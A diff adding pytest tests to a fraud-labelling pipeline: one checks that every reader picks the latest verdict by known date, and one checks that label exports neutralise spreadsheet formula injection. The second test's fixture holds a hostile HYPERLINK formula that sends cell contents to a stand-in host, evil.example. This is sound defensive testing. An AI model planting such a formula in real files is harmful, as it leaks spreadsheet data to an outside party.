@@ -12,6 +12,7 @@ from click.testing import CliRunner
 from pipelines.cli import main
 from pipelines.feedback.labels import read_label_file
 from pipelines.store import ResultsStore
+from pipelines.store.labels import latest_labels
 
 
 @pytest.fixture(params=["sqlite", "postgres"])
@@ -114,3 +115,55 @@ def test_a_file_without_the_required_columns_is_refused(tmp_path):
     result = CliRunner().invoke(main, ["labels", "import", str(path)])
     assert result.exit_code == 2
     assert "missing column(s) ['record_id', 'verdict']" in result.output
+
+
+def test_every_reader_takes_the_same_latest_verdict(tmp_path, store):
+    """The latest label is the one known last, not the one stored last (a chargeback
+    imported today may have been known weeks ago); rows known at the same time go to the
+    one stored later. Training, promotion and the review pages read it alike."""
+    first = _csv(
+        tmp_path,
+        "record_id,verdict,known_at,source\n"
+        "x,fraud,2026-01-10,review\n"
+        "y,not_fraud,2026-01-04,\n"
+        "y,fraud,2026-01-04,\n"
+        "z,fraud,2026-01-01,\n"
+        "z,unsure,2026-01-03,\n",
+    )
+    store.add_label_rows(read_label_file(first).rows, actor="ana", source_name="first")
+    later = tmp_path / "later.csv"
+    later.write_text("record_id,verdict,known_at,source\nx,not_fraud,2026-01-02,chargeback\n")
+    store.add_label_rows(read_label_file(later).rows, actor="ana", source_name="later")
+
+    known = store.known_labels()
+    assert dict(zip(known["record_id"], known["verdict"], strict=True)) == {
+        "x": "fraud",
+        "y": "fraud",
+    }
+    assert store.latest_verdicts(["x", "y", "z", "nobody"]).to_dict() == {"x": 1, "y": 1}
+    with store.session() as session:
+        shown = latest_labels(session, ["x", "y", "z"])
+    assert {r: label["verdict"] for r, label in shown.items()} == {
+        "x": "fraud",
+        "y": "fraud",
+        "z": "unsure",
+    }
+    assert store.latest_verdicts([]).empty
+
+
+def test_label_export_neutralises_formula_injection(tmp_path):
+    from pipelines.feedback.labels import write_label_export
+
+    rows = pd.DataFrame(
+        {
+            "record_id": ['=HYPERLINK("http://evil.example/?q="&A1,"x")', "tx1"],
+            "verdict": ["fraud", "not_fraud"],
+            "note": ["@SUM(1+1)", "-2 refunds"],
+        }
+    )
+    for suffix in (".csv", ".parquet"):
+        out = write_label_export(rows, tmp_path / f"labels{suffix}")
+        back = pd.read_csv(out, dtype=str) if suffix == ".csv" else pd.read_parquet(out)
+        assert back["record_id"].tolist()[0].startswith("'=HYPERLINK")
+        assert back["record_id"].tolist()[1] == "tx1"
+        assert back["note"].tolist() == ["'@SUM(1+1)", "'-2 refunds"]
